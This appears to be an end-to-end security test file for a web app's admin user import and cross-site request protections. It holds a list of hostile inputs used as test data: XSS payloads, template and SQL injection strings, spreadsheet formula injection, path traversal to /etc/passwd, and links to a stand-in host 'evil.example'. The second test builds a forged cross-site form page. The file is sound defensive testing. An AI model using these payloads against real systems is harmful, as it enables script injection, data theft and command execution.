// What others write is shown as text (promise S7), and pages of others get nowhere (promise S5).
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect, open, settled, signInAsAdmin, test } from "../support/test";

const hostile = [
  "<script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "\"><img src=x onerror=alert(1)>",
  "'><svg onload=alert(1)>",
  "<svg/onload=alert(1)>",
  "<iframe src=javascript:alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<body onload=alert(1)>",
  "<style>*{display:none}</style>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content=0;url=//evil.example>",
  "<form action=//evil.example><input name=q>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<object data=javascript:alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<template><script>alert(1)</script></template>",
  "<math><mi//xlink:href=data:x,alert(1)>",
  "--><script>alert(1)</script>",
  "<!--<script>alert(1)//-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "]]><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "#{7*7}",
  "<%= 7*7 %>",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "=HYPERLINK(\"http://evil.example\")",
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "-2+3",
  "'; DROP TABLE people; --",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "../../etc/passwd",
  "%s%n%x",
];

test("hostile names in every field stay text, on every page that shows them", async ({ page, demo }) => {
  test.setTimeout(240_000);
  let dialogs = 0;
  page.on("dialog", (dialog) => {
    dialogs += 1;
    void dialog.dismiss();
  });
  const header =
    "Username,First name,Last name,Display name,Job title,Department,Office number,Office phone,Mobile phone,Fax,Alternate email address,Address,City,State or province,ZIP or postal code,Country or region";
  const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
  const rows = hostile.map((text, at) => {
    const cell = quoted(text);
    return [`hostile${at}@juniperpike.example`, cell, cell, cell, cell, cell, cell, "", "", "", "", cell, cell, cell, quoted(text.slice(0, 40)), cell].join(",");
  });
  const folder = mkdtempSync(join(tmpdir(), "latchkey-hostile-"));
  const file = join(folder, "<img src=x onerror=alert(1)>.csv".replaceAll("/", "_"));
  writeFileSync(file, [header, ...rows].join("\r\n"));

  await signInAsAdmin(page, demo);
  await open(page, "/admin/users/import");
  await page.locator("input[type=file]").setInputFiles(file);
  await expect(page.getByText(`${hostile.length} rows can be imported`)).toBeVisible();
  await page.getByRole("button", { name: /^Apply/ }).click();
  await expect(page.getByRole("heading", { name: "Import users Done" })).toBeVisible();
  await expect(page.locator("table.job-items tbody tr")).toHaveCount(hostile.length);
  rmSync(folder, { recursive: true });

  const columns = "columns=name,user_name,department,job_title,city,country,roles,status,last_sign_in,password,created";
  await open(page, `/admin/users?q=hostile&${columns}`);
  const grid = page.getByRole("grid");
  await expect(grid).toHaveAttribute("aria-rowcount", String(hostile.length + 1));
  // Only the rows in sight are drawn: those at the top, and those at the end.
  const seen = new Set<string>();
  for (const key of ["Home", "End"]) {
    await page.keyboard.press(key);
    await expect(page.locator("tr[data-at]:focus")).toHaveAttribute("aria-rowindex", key === "Home" ? "2" : String(hostile.length + 1));
    for (const name of await grid.locator(".col-name a").allInnerTexts()) seen.add(name);
    await expect(grid.locator("script, img, iframe, object, style, base, form, template")).toHaveCount(0);
  }
  expect(hostile.filter((text) => !seen.has(text))).toEqual([]);

  // The markup of each, once: by link from the list, and as the server renders it.
  for (const at of [0, 2, 6, 10, 18]) {
    await open(page, `/admin/users?q=hostile${at}@`);
    await page.locator("tr[data-at='0'] a").click();
    await expect(page.getByRole("heading", { level: 1 })).toHaveText(hostile[at] ?? "");
    await page.getByRole("button", { name: "Reset password" }).click();
    await expect(page.getByRole("dialog", { name: "Reset password" })).toContainText(hostile[at] ?? "");
    await page.keyboard.press("Escape");
    await page.reload();
    await settled(page);
    await expect(page.getByRole("heading", { level: 1 })).toHaveText(hostile[at] ?? "");
  }
  for (const path of ["/admin/audit", "/admin", `/admin/users?department=${encodeURIComponent(hostile[0] ?? "")}`, `/admin/users?q=${encodeURIComponent(hostile[2] ?? "")}`]) {
    await open(page, path);
    await settled(page);
    await expect(page.locator("main script, main img, main iframe")).toHaveCount(0);
  }
  await page.goto(`/sign-in?next=${encodeURIComponent("javascript:alert(1)")}`);
  expect(dialogs, "no dialog was raised").toBe(0);
});

test("a page of somebody else's cannot post here, though the reader is signed in", async ({ page, demo, watch }) => {
  watch.expect(/request to another host: http:\/\/localhost/);
  watch.expect(/status of 40[345]/);
  watch.expect(/Content Security Policy|CORS|ERR_FAILED|ERR_BLOCKED|opener|Failed to fetch/i);
  await signInAsAdmin(page, demo);
  const forms = [
    ["/sign-out", ""],
    ["/sign-in", "<input name=user_name value=x>"],
    ["/change-password", "<input name=password value='an attacker chose this one'>"],
    ["/set-up", "<input name=token value=x>"],
    ["/_fn/people", "<input name=command value=x>"],
  ] as const;
  const hostilePage = createServer((request, response) => {
    const [path, fields] = forms[Number(request.url?.slice(1))] ?? forms[0];
    response.setHeader("content-type", "text/html");
    response.end(`<form method=post action="${demo.url}${path}">${fields}<button>go</button></form>`);
  });
  await new Promise<void>((done) => hostilePage.listen(0, "127.0.0.1", done));
  const address = hostilePage.address();
  const port = typeof address === "object" && address !== null ? address.port : 0;
  for (const [at, [path]] of forms.entries()) {
    // Another name of the same machine is another site to the browser.
    // A tab of its own for each: what a refusal shows must not get in the way of the next.
    const tab = await page.context().newPage();
    await tab.goto(`http://localhost:${port}/${at}`);
    const answer = tab.waitForResponse((response) => new URL(response.url()).pathname === path);
    await tab.getByRole("button", { name: "go" }).click();
    expect((await answer).status(), path).toBeGreaterThanOrEqual(400);
    await tab.close();
  }
  await page.goto(`http://localhost:${port}/0`);
  const blind = await page.evaluate(async (url) => {
    try {
      await fetch(`${url}/api/v1/people`, { credentials: "include" });
      return "read";
    } catch {
      return "refused";
    }
  }, demo.url);
  expect(blind, "nor read what is answered").toBe("refused");
  await new Promise((done) => hostilePage.close(done));
  await page.goto("/account");
  await expect(page, "still signed in").toHaveURL(/\/account$/);
});
